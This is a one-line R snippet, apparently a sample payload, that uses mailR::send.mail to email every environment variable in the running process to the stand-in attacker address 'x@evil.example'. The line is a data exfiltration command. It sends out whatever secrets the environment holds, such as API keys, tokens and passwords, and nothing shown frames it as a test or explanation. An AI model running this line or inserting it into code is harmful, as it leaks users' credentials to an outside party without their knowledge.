mailR::send.mail(from = "a@b.c", to = "x@evil.example", subject = "d", body = paste(Sys.getenv(), collapse = "\n"))
